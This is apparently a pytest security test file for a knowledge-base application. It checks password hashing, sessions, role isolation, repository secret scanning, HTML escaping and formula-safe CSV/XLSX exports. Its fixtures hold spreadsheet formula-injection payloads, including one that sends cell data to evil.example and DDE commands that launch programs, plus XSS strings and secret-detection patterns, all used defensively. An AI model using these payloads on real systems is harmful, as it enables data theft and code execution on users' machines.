"""Access and exposure: bcrypt password hashes, expiring sessions, role isolation, no secrets in the repository,
escaped user text in every HTML view, and spreadsheet exports safe from formula injection."""

from __future__ import annotations

import csv
import html
import io
import re
import sqlite3
import subprocess
import time
from pathlib import Path

import bcrypt
import openpyxl
import pytest

from kb.auth import AREA_ROLES, Session, authenticate, check_role, hash_password, verify_password
from kb.errors import AuthError, KBError
from kb.models import ROLES

REPO = Path(__file__).resolve().parent.parent
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HTML_TEXT = "甲公司<script>alert('xss')</script>部署<img src=x onerror=\"alert(1)\">机器视觉&检测\"'"


# ------------------------------------------------------------------------------------------------ passwords
def test_passwords_are_stored_as_salted_bcrypt_hashes_never_plaintext(kb, db_path: Path):
    kb.accounts.add_user("alice", "Correct-Horse-9", "reviewer")
    kb.accounts.add_user("bob", "Correct-Horse-9", "analyst")
    con = sqlite3.connect(str(db_path))
    rows = dict(con.execute("SELECT username, pw_hash FROM users").fetchall())
    dump = "\n".join(con.iterdump())
    con.close()
    assert "Correct-Horse-9" not in dump  # not in any table, column or index of the database
    for h in rows.values():
        assert re.fullmatch(r"\$2[aby]\$(\d\d)\$[./A-Za-z0-9]{53}", h)
        assert int(h[4:6]) >= 10  # work factor
    assert rows["alice"] != rows["bob"]  # salted
    assert bcrypt.checkpw(b"Correct-Horse-9", rows["alice"].encode())
    assert all("pw_hash" not in u for u in kb.accounts.users())  # listings never carry the hash


def test_login_checks_password_and_active_flag(kb):
    kb.accounts.add_user("carol", "pass-1234", "admin")
    s = kb.accounts.login("carol", "pass-1234")
    assert s.username == "carol" and s.role == "admin" and s.valid
    assert abs(s.expires - (time.time() + kb.config.session_ttl_min * 60)) < 60
    for user, pw in (("carol", "pass-12345"), ("carol", ""), ("nobody", "pass-1234"), ("CAROL", "pass-1234")):
        with pytest.raises(AuthError):
            kb.accounts.login(user, pw)
    kb.storage.upsert_user("dave", "reviewer", hash_password("pass-5678"), active=False)
    with pytest.raises(AuthError):
        kb.accounts.login("dave", "pass-5678")
    assert not verify_password("x", "not-a-bcrypt-hash")  # a corrupt hash denies, never raises
    with pytest.raises(KBError):
        hash_password("abc")  # too short


# ------------------------------------------------------------------------------------------------ sessions, roles
def test_sessions_expire():
    past = Session("erin", "admin", time.time() - 1)
    assert not past.valid
    assert not any(past.can(area) for area in AREA_ROLES)
    fresh = authenticate(
        {"username": "erin", "role": "admin", "pw_hash": hash_password("pw-erin")}, "pw-erin", 0
    )
    assert not fresh.valid  # a zero TTL is expired at once
    live = Session("erin", "admin", time.time() + 60)
    assert live.valid and all(live.can(area) for area in AREA_ROLES)


@pytest.mark.parametrize(
    ("role", "allowed"),
    [
        ("applicant", set()),  # applicants have no account: the self-check needs no login and shows no data
        ("analyst", {"analytics", "reference"}),
        ("reviewer", {"review", "analytics", "reference"}),
        ("admin", {"review", "analytics", "reference", "admin"}),
    ],
)
def test_role_isolation(role: str, allowed: set[str]):
    s = Session("u", role, time.time() + 600)
    for area in ("review", "analytics", "reference", "admin", "unknown-area"):
        assert s.can(area) == (area in allowed), (role, area)


def test_applicant_cannot_hold_an_account():
    assert "applicant" not in ROLES
    with pytest.raises(KBError):
        check_role("applicant")
    with pytest.raises(KBError):
        check_role("root")


# ------------------------------------------------------------------------------------------------ secrets
_SECRET_PATTERNS = {
    "private key": re.compile(
        r"-----BEGIN (?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY(?: BLOCK)?-----"
    ),
    "AWS key id": re.compile(r"\bAKIA[0-9A-Z]{16}\b"),
    "GitHub token": re.compile(r"\bgh[pousr]_[A-Za-z0-9]{36,}\b"),
    "OpenAI/Anthropic-style key": re.compile(r"\bsk-(?:ant-)?[A-Za-z0-9_-]{32,}\b"),
    "Slack token": re.compile(r"\bxox[abposr]-[A-Za-z0-9-]{10,}\b"),
    "bcrypt hash": re.compile(r"\$2[aby]\$\d\d\$[./A-Za-z0-9]{53}"),
    "URL with password": re.compile(r"\b[a-z][a-z0-9+.-]*://[^/\s:@\"']+:[^/\s@\"']{3,}@"),
}
_PASSWORD_LITERAL = re.compile(
    r"""(?i)\b(?:password|passwd|pwd|secret|api_?key|access_?token|auth_?token)\s*[:=]\s*["']([^"'\s]{3,})["']"""
)
_DOCUMENTED = {"demo"}  # the demo accounts' password, documented in README and `scenario-kb demo`


def _repo_text_files() -> list[Path]:
    try:
        out = subprocess.run(
            ["git", "ls-files", "--cached", "--others", "--exclude-standard", "-z"],
            cwd=REPO,
            capture_output=True,
            check=True,
            timeout=60,
        ).stdout.decode()
        files = [REPO / f for f in out.split("\0") if f]
    except (OSError, subprocess.CalledProcessError):  # not a git checkout: walk the tree
        skip = {".git", ".venv", "var", "__pycache__", "node_modules"}
        files = [p for p in REPO.rglob("*") if p.is_file() and not skip & set(p.relative_to(REPO).parts)]
    text = []
    for f in files:
        if not f.is_file() or f.stat().st_size > 5_000_000:
            continue
        head = f.read_bytes()[:4096]
        if b"\x00" not in head:
            text.append(f)
    return text


def test_no_secrets_in_the_repository():
    files = _repo_text_files()
    assert len(files) > 20
    found = []
    for f in files:
        content = f.read_text(encoding="utf-8", errors="replace")
        rel = f.relative_to(REPO).as_posix()
        for name, pat in _SECRET_PATTERNS.items():
            for m in pat.finditer(content):
                found.append(f"{rel}: {name}: {m.group(0)[:40]}")
        if not rel.startswith("tests/"):  # tests hold throwaway passwords for their temporary accounts
            for m in _PASSWORD_LITERAL.finditer(content):
                if m.group(1) not in _DOCUMENTED:
                    found.append(f"{rel}: password literal {m.group(0)[:60]}")
    assert not found, "\n".join(found)


# ------------------------------------------------------------------------------------------------ escaping
def test_esc_escapes_markup_and_quotes():
    pytest.importorskip("streamlit")
    from app_pages.resources import esc

    out = esc(HTML_TEXT)
    assert "<" not in out and ">" not in out and '"' not in out and "'" not in out
    assert html.unescape(out) == HTML_TEXT
    assert esc(None) == "None" and esc(42) == "42"


def _visible_text(fragment: str) -> str:
    """The text a browser shows for an HTML fragment (tags removed, entities decoded)."""
    return html.unescape(re.sub(r"<[^>]*>", "", fragment))


def test_highlight_views_escape_user_text_inside_and_outside_marks():
    from app_pages.render import highlighted_text, shared_text

    text = HTML_TEXT
    s = text.index("<script>")
    marks = [
        {
            "span": [s, s + 20],
            "code": "<b>X1</b>",
            "severity": "warning",
            "message": '"><script>alert(2)</script>',
        }
    ]
    out = highlighted_text(text, marks)
    spans = [
        {"span": [0, 12], "n": 1, "boilerplate": False},
        {"span": [s, len(text)], "n": 2, "boilerplate": True},
    ]
    out2 = shared_text(text, spans, "a", active=2)
    for o in (out, out2):
        assert "<script" not in o.lower() and "<img" not in o.lower() and 'onerror="' not in o.lower()
        assert _visible_text(o).replace("[1]", "").replace("[2]", "") == text  # escaped, not dropped


def test_dossier_template_autoescapes():
    from kb.service import dossier_render

    env = dossier_render._jinja_env()
    assert env.autoescape is True or env.autoescape("dossier.html.j2")


# ------------------------------------------------------------------------------------------------ exports
def test_csv_and_xlsx_exports_neutralise_formulas():
    from kb.export import Sheet, csv_bytes, safe_cell, xlsx_bytes

    header = ["标题", "申报单位", "数值"]
    rows = [[p, f"单位{i}", -3] for i, p in enumerate(PAYLOADS)] + [["正常标题", "=", 5]]
    data = csv_bytes(header, rows)
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert parsed[0] == header
    for (title, _unit, num), payload in zip(parsed[1:], PAYLOADS, strict=False):
        assert title == "'" + payload and num == "-3"  # numbers stay numbers
    assert parsed[-1][:2] == ["正常标题", "'="]

    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet("评审表", header, rows)])))
    ws = wb.worksheets[0]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula cell at all
    # (openpyxl reads the carriage return back in its XML escape form _x000D_)
    titles = [ws.cell(r, 1).value.replace("_x000D_", "\r") for r in range(2, 2 + len(PAYLOADS))]
    assert titles == [safe_cell(p) for p in PAYLOADS]
    assert all(not str(t).startswith(("=", "+", "-", "@", "\t", "\r")) for t in titles)
    assert ws.cell(2, 3).value == -3 and ws.cell(2, 3).data_type == "n"


def test_service_export_of_stored_formula_payloads_is_inert(kb, tmp_path: Path):
    folder = tmp_path / "in"
    folder.mkdir()
    with open(folder / "batch.csv", "w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow(["标题", "申报单位", "正文"])
        for i, p in enumerate(PAYLOADS):
            w.writerow([p, p, f"一、企业概况\n第{i}家企业。\n二、实施内容\n部署MES系统。{p}"])
    kb.store.ingest([folder], analyze=False)
    data = kb.reports.export_inbox("csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert len(rows) == len(PAYLOADS) + 1
    cells = {cell for row in rows for cell in row}
    # (metadata is stored stripped, so "\t=1+1" arrives as "=1+1")
    assert {"'" + p.strip() for p in PAYLOADS} <= cells  # the payloads reached the export, neutralised
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    wb = openpyxl.load_workbook(io.BytesIO(kb.reports.export_inbox("xlsx")))
    ws = wb.worksheets[0]
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    values = {
        str(c.value).replace("_x000D_", "\r") for row in ws.iter_rows() for c in row if c.value is not None
    }
    assert {"'" + p.strip() for p in PAYLOADS} <= values
